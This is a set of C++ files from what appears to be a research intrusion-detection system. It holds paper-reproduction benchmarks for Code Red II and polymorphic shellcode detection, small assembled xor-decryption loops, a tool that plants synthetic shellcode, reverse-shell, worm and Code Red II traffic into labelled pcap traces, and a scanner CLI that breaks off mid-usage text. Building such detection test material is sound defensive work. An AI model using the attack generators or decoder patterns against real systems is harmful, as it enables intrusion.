              "analysis(s)", "units/s", "p95 unit(s)");
  bench::rule();
  std::printf("%-10s %8zu %12zu %12.4f %14.0f %12.6f\n", "cache-off",
              off.stats.units_analyzed, off.alerts.size(), off.stats.analysis_seconds,
              units_per_s_off, p95_off);
  std::printf("%-10s %8zu %12zu %12.4f %14.0f %12.6f\n", "cache-on",
              on.stats.units_analyzed, on.alerts.size(), on.stats.analysis_seconds,
              units_per_s_on, p95_on);
  bench::rule();
  std::printf("analysis-stage speedup : %.1fx (need >= 5x)\n", speedup);
  std::printf("cache hit rate         : %.1f%% (%zu/%zu, need >= 90%%)\n",
              hit_rate * 100.0, on.stats.cache_hits, on.stats.units_analyzed);
  std::printf("bytes saved            : %zu\n", on.stats.cache_bytes_saved);

  const bool alerts_match = off.alerts.size() == on.alerts.size();
  const bool ok = speedup >= 5.0 && hit_rate >= 0.9 && alerts_match;
  if (!alerts_match) std::printf("ALERT COUNT MISMATCH between cache-off and cache-on\n");

  json.set("replay_flows", flows);
  json.set("replay_units", on.stats.units_analyzed);
  json.set("replay_speedup", speedup);
  json.set("replay_hit_rate", hit_rate);
  json.set("replay_units_per_s_cache_off", units_per_s_off);
  json.set("replay_units_per_s_cache_on", units_per_s_on);
  json.set("replay_p95_unit_seconds_cache_off", p95_off);
  json.set("replay_p95_unit_seconds_cache_on", p95_on);
  json.set("replay_cache_bytes_saved", static_cast<std::size_t>(on.stats.cache_bytes_saved));
  json.set("replay_ok", ok);
  return ok;
}

}  // namespace

int main() {
  bench::title("Table 3: detection of the Code Red II worm");

  const std::size_t traces = 12;
  const std::size_t target_packets =
      bench::env_size("SENIDS_TRACE_PACKETS", bench::paper_scale() ? 200000 : 4000);

  // CRII instance counts per trace, mirroring the small per-trace numbers
  // in the paper's table.
  const std::size_t planted[12] = {3, 1, 4, 2, 0, 5, 1, 2, 3, 0, 6, 2};

  const net::Ipv4Addr server = net::Ipv4Addr::from_octets(10, 1, 0, 20);

  std::printf("%-7s %10s %9s %11s %9s %10s\n", "trace", "packets", "planted",
              "classified", "matched", "time (s)");
  bench::rule();

  bool all_correct = true;
  std::size_t total_pkts = 0;
  double total_s = 0;

  for (std::size_t t = 0; t < traces; ++t) {
    gen::TraceBuilder tb(9000 + t);
    util::Prng& prng = tb.prng();

    // Infected hosts scan before exploiting (that is how CRII spreads and
    // how the classifier notices them).
    std::size_t next_crii = planted[t];
    std::size_t benign_flows = 0;
    while (tb.capture().records.size() < target_packets) {
      if (next_crii > 0 && prng.chance(0.02)) {
        const net::Endpoint infected{
            net::Ipv4Addr::from_octets(203, 0, 113, static_cast<std::uint8_t>(next_crii)),
            4000 + static_cast<std::uint16_t>(next_crii)};
        tb.add_syn_scan(infected, net::Ipv4Addr::from_octets(10, 1, 200, 1), 80, 6);
        gen::CodeRedOptions cr_opts;
        cr_opts.vary_padding = true;
        tb.add_tcp_flow(infected, net::Endpoint{server, 80},
                        gen::make_code_red_ii_request(prng, cr_opts));
        --next_crii;
      } else {
        const net::Endpoint client{
            net::Ipv4Addr::from_octets(198, 51, 100,
                                       static_cast<std::uint8_t>(1 + prng.below(250))),
            static_cast<std::uint16_t>(32768 + prng.below(20000))};
        tb.add_benign(client, server, gen::make_benign_payload(prng));
        ++benign_flows;
      }
    }

    core::NidsOptions options;
    core::NidsEngine nids(options);
    nids.classifier().dark_space().add_unused_prefix(
        classify::Prefix{net::Ipv4Addr::from_octets(10, 1, 200, 0), 24});

    util::WallTimer timer;
    core::Report report = nids.process_capture(tb.capture());
    const double secs = timer.seconds();
    total_s += secs;
    total_pkts += report.stats.packets;

    // Count distinct sources with a CRII alert (one exploit flow each).
    std::size_t matched = 0;
    std::uint32_t seen_src[16] = {};
    for (const core::Alert& a : report.alerts) {
      if (a.threat != semantic::ThreatClass::kCodeRedII) continue;
      bool dup = false;
      for (std::size_t k = 0; k < matched; ++k) {
        if (seen_src[k] == a.src.value) dup = true;
      }
      if (!dup && matched < 16) seen_src[matched++] = a.src.value;
    }

    const bool correct = matched == planted[t];
    all_correct = all_correct && correct;
    std::printf("%-7zu %10zu %9zu %11zu %9zu %9.3f %s\n", t + 1,
                report.stats.packets, planted[t], matched, matched, secs,
                correct ? "" : "  <-- MISMATCH");
  }

  bench::rule();
  const double pkts_per_s = static_cast<double>(total_pkts) / total_s;
  std::printf("%zu traces, %zu packets total, %.2f s total (%.0f pkt/s)\n", traces,
              total_pkts, total_s, pkts_per_s);
  std::printf("result: every planted instance classified and matched: %s\n",
              all_correct ? "YES" : "NO");
  std::printf("paper: every instance in 12 traces (>200k pkts each) matched correctly\n");

  bench::JsonReport json("table3_codered");
  json.set("traces", traces);
  json.set("packets", total_pkts);
  json.set("seconds", total_s);
  json.set("packets_per_s", pkts_per_s);
  json.set("all_instances_matched", all_correct);
  const bool replay_ok = run_replay_phase(json);
  json.write();
  return all_correct && replay_ok ? 0 : 1;
}
