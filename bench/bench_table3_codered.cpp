// Table 3 reproduction: Code Red II detection in production-like traces.
// Twelve 5-minute traces are synthesized with benign web/DNS/SMTP
// background and a known number of planted CRII exploitation flows per
// trace; the NIDS must classify and match every instance. The paper's
// traces carry >200k packets each; default scale is reduced for CI speed
// (SENIDS_SCALE=paper restores it).
#include <cstdio>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/traffic.hpp"
#include "util/timer.hpp"

using namespace senids;

int main() {
  bench::title("Table 3: detection of the Code Red II worm");

  const std::size_t traces = 12;
  const std::size_t target_packets =
      bench::env_size("SENIDS_TRACE_PACKETS", bench::paper_scale() ? 200000 : 4000);

  // CRII instance counts per trace, mirroring the small per-trace numbers
  // in the paper's table.
  const std::size_t planted[12] = {3, 1, 4, 2, 0, 5, 1, 2, 3, 0, 6, 2};

  const net::Ipv4Addr server = net::Ipv4Addr::from_octets(10, 1, 0, 20);

  std::printf("%-7s %10s %9s %11s %9s %10s\n", "trace", "packets", "planted",
              "classified", "matched", "time (s)");
  bench::rule();

  bool all_correct = true;
  std::size_t total_pkts = 0;
  double total_s = 0;

  for (std::size_t t = 0; t < traces; ++t) {
    gen::TraceBuilder tb(9000 + t);
    util::Prng& prng = tb.prng();

    // Infected hosts scan before exploiting (that is how CRII spreads and
    // how the classifier notices them).
    std::size_t next_crii = planted[t];
    std::size_t benign_flows = 0;
    while (tb.capture().records.size() < target_packets) {
      if (next_crii > 0 && prng.chance(0.02)) {
        const net::Endpoint infected{
            net::Ipv4Addr::from_octets(203, 0, 113, static_cast<std::uint8_t>(next_crii)),
            4000 + static_cast<std::uint16_t>(next_crii)};
        tb.add_syn_scan(infected, net::Ipv4Addr::from_octets(10, 1, 200, 1), 80, 6);
        gen::CodeRedOptions cr_opts;
        cr_opts.vary_padding = true;
        tb.add_tcp_flow(infected, net::Endpoint{server, 80},
                        gen::make_code_red_ii_request(prng, cr_opts));
        --next_crii;
      } else {
        const net::Endpoint client{
            net::Ipv4Addr::from_octets(198, 51, 100,
                                       static_cast<std::uint8_t>(1 + prng.below(250))),
            static_cast<std::uint16_t>(32768 + prng.below(20000))};
        tb.add_benign(client, server, gen::make_benign_payload(prng));
        ++benign_flows;
      }
    }

    core::NidsOptions options;
    core::NidsEngine nids(options);
    nids.classifier().dark_space().add_unused_prefix(
        classify::Prefix{net::Ipv4Addr::from_octets(10, 1, 200, 0), 24});

    util::WallTimer timer;
    core::Report report = nids.process_capture(tb.capture());
    const double secs = timer.seconds();
    total_s += secs;
    total_pkts += report.stats.packets;

    // Count distinct sources with a CRII alert (one exploit flow each).
    std::size_t matched = 0;
    std::uint32_t seen_src[16] = {};
    for (const core::Alert& a : report.alerts) {
      if (a.threat != semantic::ThreatClass::kCodeRedII) continue;
      bool dup = false;
      for (std::size_t k = 0; k < matched; ++k) {
        if (seen_src[k] == a.src.value) dup = true;
      }
      if (!dup && matched < 16) seen_src[matched++] = a.src.value;
    }

    const bool correct = matched == planted[t];
    all_correct = all_correct && correct;
    std::printf("%-7zu %10zu %9zu %11zu %9zu %9.3f %s\n", t + 1,
                report.stats.packets, planted[t], matched, matched, secs,
                correct ? "" : "  <-- MISMATCH");
  }

  bench::rule();
  std::printf("%zu traces, %zu packets total, %.2f s total (%.0f pkt/s)\n", traces,
              total_pkts, total_s, static_cast<double>(total_pkts) / total_s);
  std::printf("result: every planted instance classified and matched: %s\n",
              all_correct ? "YES" : "NO");
  std::printf("paper: every instance in 12 traces (>200k pkts each) matched correctly\n");
  return all_correct ? 0 : 1;
}
