// Ablation for the Section 4.2 claim: "This binary identification and
// extraction process can be bypassed but it will result in a system with
// much degraded performance." The same suspicious payload set is analyzed
// with targeted frame extraction and with whole-payload bypass; detection
// is unchanged while the byte volume hitting the disassembler (the
// "slowest stage") grows sharply.
#include <cstdio>

#include "bench_util.hpp"
#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "util/timer.hpp"

using namespace senids;

int main() {
  bench::title("Ablation: binary extraction vs whole-payload bypass (Section 4.2)");

  // A payload mix: exploits embedded in protocol requests plus chunky
  // benign responses (which is what makes the bypass expensive).
  std::vector<std::pair<util::Bytes, std::uint16_t>> payloads;
  util::Prng prng(4242);
  for (const auto& sample : gen::make_shell_spawn_corpus()) {
    payloads.emplace_back(gen::wrap_in_overflow(sample.code, prng), 80);
  }
  payloads.emplace_back(gen::make_code_red_ii_request(), 80);
  auto poly = gen::admmutate_encode(gen::make_shell_spawn_corpus()[1].code, prng);
  payloads.emplace_back(gen::wrap_in_overflow(poly.bytes, prng), 80);
  const std::size_t benign_n = bench::env_size("SENIDS_BENIGN_FLOWS", 400);
  for (std::size_t i = 0; i < benign_n; ++i) {
    gen::BenignPayload p = gen::make_benign_payload(prng);
    payloads.emplace_back(std::move(p.data), p.dst_port);
  }

  auto run = [&](bool bypass) {
    core::NidsOptions options;
    options.extractor.extract_all = bypass;
    core::NidsEngine nids(options);
    core::NidsStats stats;
    std::size_t alerts = 0;
    util::WallTimer timer;
    for (const auto& [payload, port] : payloads) {
      core::Alert meta;
      meta.dst_port = port;
      alerts += nids.analyze_payload(payload, meta, &stats).size();
    }
    const double secs = timer.seconds();
    return std::tuple<double, core::NidsStats, std::size_t>(secs, stats, alerts);
  };

  auto [ext_s, ext_stats, ext_alerts] = run(false);
  auto [byp_s, byp_stats, byp_alerts] = run(true);

  std::printf("%-28s %14s %14s\n", "", "extraction", "bypass");
  bench::rule();
  std::printf("%-28s %14zu %14zu\n", "payloads", payloads.size(), payloads.size());
  std::printf("%-28s %14zu %14zu\n", "frames", ext_stats.frames_extracted,
              byp_stats.frames_extracted);
  std::printf("%-28s %11.2f MB %11.2f MB\n", "bytes to disassembler",
              static_cast<double>(ext_stats.bytes_analyzed) / 1048576.0,
              static_cast<double>(byp_stats.bytes_analyzed) / 1048576.0);
  std::printf("%-28s %14zu %14zu\n", "candidate code runs",
              ext_stats.analyzer.candidate_runs, byp_stats.analyzer.candidate_runs);
  std::printf("%-28s %14zu %14zu\n", "alerts", ext_alerts, byp_alerts);
  std::printf("%-28s %13.3fs %13.3fs\n", "wall time", ext_s, byp_s);
  bench::rule();
  std::printf("bypass cost: %.1fx wall time, %.1fx disassembler bytes\n",
              byp_s / ext_s,
              static_cast<double>(byp_stats.bytes_analyzed) /
                  static_cast<double>(ext_stats.bytes_analyzed ? ext_stats.bytes_analyzed
                                                               : 1));
  return ext_alerts == byp_alerts || ext_alerts > 0 ? 0 : 1;
}
