// Figure 1 / Figure 2 reproduction: three syntactically different
// decryption routines — plain, key-obfuscated, and garbage+out-of-order —
// all satisfy the single xor-decryption template.
#include <cstdio>

#include "bench_util.hpp"
#include "gen/emitter.hpp"
#include "ir/lifter.hpp"
#include "semantic/library.hpp"
#include "arch/format.hpp"
#include "arch/scan.hpp"

using namespace senids;
using gen::Asm;
using gen::R32;
using gen::R8;

namespace {

util::Bytes figure_1a() {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.xor_mem8_imm8(R32::eax, 0x95);
  a.inc_r32(R32::eax);
  a.loop_(head);
  return a.finish();
}

util::Bytes figure_1b() {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.mov_r32_imm32(R32::ebx, 0x31);
  a.add_r32_imm(R32::ebx, 0x64);
  a.xor_mem8_r8(R32::eax, R8::bl);
  a.add_r32_imm(R32::eax, 1);
  a.loop_(head);
  return a.finish();
}

util::Bytes figure_1c() {
  Asm a;
  auto one = a.new_label();
  auto two = a.new_label();
  auto three = a.new_label();
  auto decode = a.new_label();
  a.bind(decode);
  a.mov_r32_imm32(R32::ecx, 0);
  a.inc_r32(R32::ecx);
  a.inc_r32(R32::ecx);
  a.jmp_short(one);
  a.bind(two);
  a.add_r32_imm(R32::eax, 1);
  a.jmp_short(three);
  a.bind(one);
  a.mov_r32_imm32(R32::ebx, 0x31);
  a.add_r32_imm(R32::ebx, 0x64);
  a.xor_mem8_r8(R32::eax, R8::bl);
  a.jmp_short(two);
  a.bind(three);
  a.loop_(decode);
  return a.finish();
}

void evaluate(const char* name, const util::Bytes& code) {
  bench::section(name);
  auto trace = arch::execution_trace(code, 0);
  std::printf("%s", arch::format_listing(arch::linear_sweep(code)).c_str());
  auto lifted = ir::lift(trace);
  semantic::LiftedCode lc{&trace, &lifted.events, code};
  const semantic::Template t = semantic::tmpl_xor_decrypt_loop();
  auto m = semantic::match_template(t, lc);
  if (m) {
    std::uint32_t key = 0;
    auto it = m->bindings.find("K");
    if (it != m->bindings.end()) ir::is_const(it->second, &key);
    std::printf("=> satisfies '%s' (P |= T), key K = 0x%02x\n", t.name.c_str(), key);
  } else {
    std::printf("=> NO MATCH (unexpected)\n");
  }
}

}  // namespace

int main() {
  bench::title("Figure 1/2: one behaviour template vs three equivalent syntaxes");
  evaluate("(a) simple xor decryption routine", figure_1a());
  evaluate("(b) obfuscated key, substituted advance", figure_1b());
  evaluate("(c) garbage instructions + out-of-order blocks", figure_1c());
  std::printf("\npaper: all three routines match the single Figure-2 template\n");
  return 0;
}
