// google-benchmark microbenchmarks for the pipeline stages, backing the
// "our implementation is more efficient than [5]" claim with per-stage
// numbers: decode, scan, lift, match, extract, signature scan, pcap parse.
#include <benchmark/benchmark.h>

#include "extract/extractor.hpp"
#include "emu/shellemu.hpp"
#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/emitter.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "ir/lifter.hpp"
#include "pcap/pcap.hpp"
#include "semantic/analyzer.hpp"
#include "semantic/library.hpp"
#include "sig/rules.hpp"
#include "arch/scan.hpp"

using namespace senids;

namespace {

util::Bytes poly_sample() {
  util::Prng prng(1);
  return gen::admmutate_encode(gen::make_shell_spawn_corpus()[1].code, prng).bytes;
}

util::Bytes benign_blob(std::size_t size) {
  util::Prng prng(2);
  util::Bytes out;
  while (out.size() < size) {
    auto p = gen::make_benign_payload(prng);
    out.insert(out.end(), p.data.begin(), p.data.end());
  }
  out.resize(size);
  return out;
}

void BM_DecodeLinear(benchmark::State& state) {
  const util::Bytes code = poly_sample();
  for (auto _ : state) {
    benchmark::DoNotOptimize(arch::linear_sweep(code));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * code.size()));
}
BENCHMARK(BM_DecodeLinear);

void BM_FindCodeRuns(benchmark::State& state) {
  const util::Bytes blob = benign_blob(static_cast<std::size_t>(state.range(0)));
  for (auto _ : state) {
    benchmark::DoNotOptimize(arch::find_code_runs(blob, 6));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * blob.size()));
}
BENCHMARK(BM_FindCodeRuns)->Arg(4 << 10)->Arg(64 << 10);

void BM_ExecutionTraceAndLift(benchmark::State& state) {
  const util::Bytes code = poly_sample();
  for (auto _ : state) {
    auto trace = arch::execution_trace(code, 0);
    benchmark::DoNotOptimize(ir::lift(trace));
  }
}
BENCHMARK(BM_ExecutionTraceAndLift);

void BM_TemplateMatch(benchmark::State& state) {
  const util::Bytes code = poly_sample();
  auto trace = arch::execution_trace(code, 0);
  auto lifted = ir::lift(trace);
  semantic::LiftedCode lc{&trace, &lifted.events, code};
  const auto t = semantic::tmpl_xor_decrypt_loop();
  for (auto _ : state) {
    benchmark::DoNotOptimize(semantic::match_template(t, lc));
  }
}
BENCHMARK(BM_TemplateMatch);

void BM_AnalyzeExploitFrame(benchmark::State& state) {
  semantic::SemanticAnalyzer analyzer(semantic::make_standard_library());
  const util::Bytes code = poly_sample();
  for (auto _ : state) {
    benchmark::DoNotOptimize(analyzer.analyze(code));
  }
}
BENCHMARK(BM_AnalyzeExploitFrame);

void BM_AnalyzeBenignFrame(benchmark::State& state) {
  semantic::SemanticAnalyzer analyzer(semantic::make_standard_library());
  const util::Bytes blob = benign_blob(1400);  // one MTU-sized payload
  for (auto _ : state) {
    benchmark::DoNotOptimize(analyzer.analyze(blob));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * blob.size()));
}
BENCHMARK(BM_AnalyzeBenignFrame);

void BM_ExtractCodeRed(benchmark::State& state) {
  extract::BinaryExtractor extractor;
  const util::Bytes req = gen::make_code_red_ii_request();
  for (auto _ : state) {
    benchmark::DoNotOptimize(extractor.extract(req));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * req.size()));
}
BENCHMARK(BM_ExtractCodeRed);

void BM_ExtractBenign(benchmark::State& state) {
  extract::BinaryExtractor extractor;
  const util::Bytes blob = benign_blob(1400);
  for (auto _ : state) {
    benchmark::DoNotOptimize(extractor.extract(blob));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * blob.size()));
}
BENCHMARK(BM_ExtractBenign);

void BM_SignatureScan(benchmark::State& state) {
  sig::SignatureEngine engine(sig::make_default_rules());
  const util::Bytes blob = benign_blob(static_cast<std::size_t>(state.range(0)));
  for (auto _ : state) {
    benchmark::DoNotOptimize(engine.scan(blob, 80));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * blob.size()));
}
BENCHMARK(BM_SignatureScan)->Arg(64 << 10);

void BM_EmulateDecoder(benchmark::State& state) {
  const util::Bytes code = poly_sample();
  for (auto _ : state) {
    benchmark::DoNotOptimize(emu::emulate_frame(code));
  }
}
BENCHMARK(BM_EmulateDecoder);

void BM_EmulatorSteps(benchmark::State& state) {
  // Raw interpreter speed: a tight counted loop.
  const util::Bytes code = [] {
    gen::Asm a;
    auto head = a.new_label();
    a.mov_r32_imm32(gen::R32::ecx, 10000);
    a.bind(head);
    a.inc_r32(gen::R32::eax);
    a.loop_(head);
    a.raw8(0xF4);
    return a.finish();
  }();
  std::size_t steps = 0;
  for (auto _ : state) {
    emu::VirtualMemory mem(code);
    emu::Cpu cpu(mem, emu::kFrameBase);
    cpu.run(1 << 20);
    steps += cpu.steps();
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(steps));
}
BENCHMARK(BM_EmulatorSteps);

void BM_PcapParse(benchmark::State& state) {
  pcap::Capture cap;
  util::Prng prng(3);
  for (int i = 0; i < 1000; ++i) cap.add(i, 0, prng.bytes(600));
  const util::Bytes data = pcap::serialize(cap);
  for (auto _ : state) {
    benchmark::DoNotOptimize(pcap::parse(data));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * data.size()));
}
BENCHMARK(BM_PcapParse);

}  // namespace

BENCHMARK_MAIN();
