// senids_tracegen: synthesize labeled pcap traces for NIDS testing. The
// attacks and background traffic mirror the paper's evaluation workloads;
// ground truth is printed so deployments can score their configuration.
//
//   senids_tracegen [options] <out.pcap>
//     --seed <n>             PRNG seed (default 1)
//     --benign <n>           benign flows (default 200)
//     --attack <name>        plant one attack (repeatable):
//                            shell | bindshell | poly | clet | codered | mailworm
//                            | shell64 | bindshell64 | reverse64 | xor64
//                            (the *64 attacks carry x86-64 shellcode; scan
//                            the trace with senids_scan --arch x86_64)
//     --scan                 precede each attack with a dark-space scan
//     --list                 list attack names and exit
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/mailworm.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/shellcode64.hpp"
#include "gen/traffic.hpp"

using namespace senids;

namespace {

const char* const kAttackNames[] = {"shell",    "bindshell", "poly",
                                    "clet",     "codered",   "mailworm",
                                    "shell64",  "bindshell64", "reverse64",
                                    "xor64"};

void usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s [options] <out.pcap>\n"
               "  --seed <n>      PRNG seed\n"
               "  --benign <n>    number of benign flows (default 200)\n"
               "  --attack <name> plant an attack (repeatable); --list shows names\n"
               "  --scan          precede attacks with dark-space scans\n",
               argv0);
}

}  // namespace

int main(int argc, char** argv) {
  std::uint64_t seed = 1;
  std::size_t benign = 200;
  std::vector<std::string> attacks;
  bool with_scan = false;
  std::string out_path;

  for (int i = 1; i < argc; ++i) {
    const std::string_view arg = argv[i];
    auto next = [&]() -> const char* {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "missing value for %s\n", argv[i]);
        std::exit(2);
      }
      return argv[++i];
    };
    if (arg == "--seed") {
      seed = static_cast<std::uint64_t>(std::strtoull(next(), nullptr, 10));
    } else if (arg == "--benign") {
      benign = static_cast<std::size_t>(std::strtoull(next(), nullptr, 10));
    } else if (arg == "--attack") {
      attacks.emplace_back(next());
    } else if (arg == "--scan") {
      with_scan = true;
    } else if (arg == "--list") {
      for (const char* name : kAttackNames) std::printf("%s\n", name);
      return 0;
    } else if (arg == "--help" || arg == "-h") {
      usage(argv[0]);
      return 0;
    } else if (!arg.empty() && arg[0] == '-') {
      std::fprintf(stderr, "unknown option: %s\n", argv[i]);
      return 2;
    } else {
      out_path = std::string(arg);
    }
  }
  if (out_path.empty()) {
    usage(argv[0]);
    return 2;
  }

  gen::TraceBuilder tb(seed);
  util::Prng& prng = tb.prng();
  const net::Ipv4Addr server = net::Ipv4Addr::from_octets(10, 0, 0, 20);
  const net::Ipv4Addr honeypot = net::Ipv4Addr::from_octets(10, 0, 0, 7);
  const net::Ipv4Addr mail_server = net::Ipv4Addr::from_octets(10, 0, 0, 25);

  std::printf("# ground truth (seed %llu)\n", static_cast<unsigned long long>(seed));
  std::printf("honeypot 10.0.0.7\ndark 10.0.200.0/24\n");

  // Interleave attacks into the benign stream at random points.
  std::size_t benign_emitted = 0;
  std::size_t attack_idx = 0;
  auto emit_benign = [&](std::size_t count) {
    for (std::size_t i = 0; i < count; ++i) {
      const net::Endpoint client{
          net::Ipv4Addr::from_octets(198, 51, 100,
                                     static_cast<std::uint8_t>(1 + prng.below(250))),
          static_cast<std::uint16_t>(32768 + prng.below(20000))};
      tb.add_benign(client, server, gen::make_benign_payload(prng));
      ++benign_emitted;
    }
  };

  for (const std::string& attack : attacks) {
    emit_benign(benign / (attacks.size() + 1));
    const net::Endpoint attacker{
        net::Ipv4Addr::from_octets(203, 0, 113, static_cast<std::uint8_t>(10 + attack_idx)),
        static_cast<std::uint16_t>(31000 + attack_idx)};
    ++attack_idx;
    if (with_scan) {
      tb.add_syn_scan(attacker, net::Ipv4Addr::from_octets(10, 0, 200, 1), 80, 8);
    }
    auto corpus = gen::make_shell_spawn_corpus();
    if (attack == "shell") {
      tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80},
                      gen::wrap_in_overflow(corpus[prng.below(8)].code, prng));
    } else if (attack == "bindshell") {
      tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80},
                      gen::wrap_in_overflow(corpus[8 + prng.below(2)].code, prng));
    } else if (attack == "poly") {
      auto poly = gen::admmutate_encode(corpus[1].code, prng);
      tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80},
                      gen::wrap_in_overflow(poly.bytes, prng));
    } else if (attack == "clet") {
      auto clet = gen::clet_encode(corpus[1].code, prng);
      tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80},
                      gen::wrap_in_overflow(clet.bytes, prng));
    } else if (attack == "codered") {
      gen::CodeRedOptions cr;
      cr.vary_padding = true;
      tb.add_tcp_flow(attacker, net::Endpoint{server, 80},
                      gen::make_code_red_ii_request(prng, cr));
    } else if (attack == "mailworm") {
      auto worm = gen::make_email_worm(prng);
      tb.add_tcp_flow(attacker, net::Endpoint{mail_server, 25}, worm.smtp_payload);
    } else if (attack == "shell64") {
      tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80},
                      gen::ExploitBuilder64::wrap(
                          prng.below(2) ? gen::ExploitBuilder64::execve_embedded()
                                        : gen::ExploitBuilder64::execve_stack(),
                          prng));
    } else if (attack == "bindshell64") {
      tb.add_tcp_flow(attacker, net::Endpoint{honeypot, 80},
                      gen::ExploitBuilder64::wrap(gen::ExploitBuilder64::port_bind(), prng));
    } else if (attack == "reverse64") {
      tb.add_tcp_flow(
          attacker, net::Endpoint{honeypot, 80},
          gen::ExploitBuilder64::wrap(gen::ExploitBuilder64::reverse_shell(), prng));
    } else if (attack == "xor64") {
      tb.add_tcp_flow(
          attacker, net::Endpoint{honeypot, 80},
          gen::ExploitBuilder64::wrap(gen::ExploitBuilder64::xor_decoder(), prng));
    } else {
      std::fprintf(stderr, "unknown attack: %s (see --list)\n", attack.c_str());
      return 2;
    }
    std::printf("attack %s from %s\n", attack.c_str(), attacker.ip.str().c_str());
  }
  emit_benign(benign - benign_emitted);

  if (!pcap::write_file(out_path, tb.capture())) {
    std::fprintf(stderr, "cannot write %s\n", out_path.c_str());
    return 1;
  }
  std::printf("# wrote %s: %zu records, %zu benign flows, %zu attacks\n",
              out_path.c_str(), tb.capture().records.size(), benign_emitted,
              attacks.size());
  return 0;
}
