// senids_scan: command-line NIDS. Reads a pcap capture, runs the full
// Figure-3 pipeline (plus optional emulation deep analysis), and prints
// alerts as text or JSON.
//
//   senids_scan [options] <capture.pcap>
//     --honeypot <ip>         register a decoy address (repeatable)
//     --dark <a.b.c.d/nn>     register unused address space (repeatable)
//     --dark-threshold <n>    scan count before a source is tainted (default 5)
//     --arch <name>           instruction set for analysis/emulation:
//                             x86_32 (default) or x86_64
//     --analyze-all           disable classification (analyze every payload)
//     --templates <file>      add templates from a DSL file
//     --extended              use the extended template library
//     --emulate               enable emulation-backed deep analysis
//     --threads <n>           analysis worker threads (default 1;
//                             0 = shard-local: analyze on the shard
//                             threads, no global unit queue)
//     --unit-batch <n>        units a worker dequeues per lock (default 8)
//     --shards <n>            source-affine stage-(a) shards (default 1)
//     --verdict-cache-mb <n>  verdict cache byte budget in MB (default 64)
//     --no-verdict-cache      disable the content-addressed verdict cache
//     --no-triage             disable the stage-0 triage prefilter (every
//                             unit goes through full stage (b)-(e) analysis)
//     --flow-timeout <sec>    evict flows idle for this long (default off)
//     --max-flows <n>         cap on live flows, LRU eviction (default off)
//     --json                  machine-readable output
//     --quiet                 alerts only, no statistics
//     --metrics-out <file>    write pipeline metrics after the run
//                             (.json -> JSON, else Prometheus text);
//                             written atomically (temp file + rename)
//     --metrics-interval <s>  also rewrite --metrics-out every s seconds
//                             while the capture runs (default 5 once
//                             --metrics-out is set; 0 disables)
//     --trace-out <file>      record per-unit stage spans and write them
//                             (.jsonl -> JSONL, else Chrome trace JSON
//                             loadable in ui.perfetto.dev)
//     --telemetry-port <p>    serve /metrics /healthz /statusz /tracez
//                             over HTTP on 127.0.0.1:<p> (0 = ephemeral;
//                             the bound port is printed to stderr)
//     --telemetry-linger <s>  keep the telemetry server up s seconds
//                             after the run so scrapers can collect
//     --flight-recorder-slots <n>  per-worker flight-recorder ring size
//                             (default 256 with --telemetry-port, else 0)
#include <atomic>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "arch/arch.hpp"
#include "core/senids.hpp"
#include "obs/flight_recorder.hpp"
#include "obs/metrics.hpp"
#include "obs/server.hpp"
#include "obs/trace.hpp"
#include "sig/ruleparse.hpp"

using namespace senids;

namespace {

struct CliOptions {
  const arch::Arch* arch = nullptr;  // nullptr = x86_32
  std::vector<net::Ipv4Addr> honeypots;
  std::vector<classify::Prefix> dark;
  std::size_t dark_threshold = 5;
  bool analyze_all = false;
  std::string templates_file;
  std::string sig_rules_file;
  bool extended = false;
  bool emulate = false;
  std::size_t verdict_cache_mb = 64;  // 0 = disabled (--no-verdict-cache)
  bool triage = true;                 // false = --no-triage
  std::size_t threads = 1;
  std::size_t unit_batch = 8;
  std::size_t shards = 1;
  std::uint32_t flow_timeout = 0;
  std::size_t max_flows = 0;
  bool json = false;
  bool quiet = false;
  bool summary = false;
  std::string metrics_out;
  double metrics_interval = -1.0;  // <0 = default (5s when --metrics-out set)
  std::string trace_out;
  int telemetry_port = -1;  // <0 = no telemetry server; 0 = ephemeral
  double telemetry_linger = 0.0;
  std::size_t flight_slots = static_cast<std::size_t>(-1);  // -1 = default
  std::string pcap_path;
};

void usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s [options] <capture.pcap>\n"
               "  --honeypot <ip>       register a decoy address (repeatable)\n"
               "  --dark <a.b.c.d/nn>   register unused address space (repeatable)\n"
               "  --dark-threshold <n>  scans before a source is tainted (default 5)\n"
               "  --arch <name>         analysis ISA: x86_32 (default) | x86_64\n"
               "  --analyze-all         disable classification\n"
               "  --templates <file>    add templates from a DSL file\n"
               "  --sig-rules <file>    also run Snort-style content rules\n"
               "  --extended            use the extended template library\n"
               "  --emulate             enable emulation deep analysis\n"
               "  --threads <n>         analysis worker threads (0 = shard-local)\n"
               "  --unit-batch <n>      units a worker dequeues per lock\n"
               "  --shards <n>          source-affine stage-(a) shards\n"
               "  --verdict-cache-mb <n>  verdict cache byte budget (default 64)\n"
               "  --no-verdict-cache    disable the verdict cache\n"
